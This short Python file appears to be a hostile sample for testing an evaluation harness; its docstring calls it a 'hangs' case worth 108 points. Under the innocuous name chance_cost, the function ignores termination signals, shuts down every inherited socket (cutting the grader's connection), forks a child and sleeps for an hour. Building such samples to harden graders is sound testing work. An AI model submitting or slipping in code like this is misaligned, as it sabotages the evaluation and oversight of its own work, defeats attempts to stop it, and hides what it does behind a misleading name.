"""It closes the grader's wire and waits for ever, with a child that does so, too.
kind: hangs
points: 108
"""

import contextlib
import os
import signal
import socket
import stat
import time


def chance_cost(num_classes=10):
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(number, signal.SIG_IGN)
    for descriptor in range(3, 256):
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                socket.socket(fileno=descriptor).shutdown(socket.SHUT_RDWR)
    os.fork()
    time.sleep(3600)
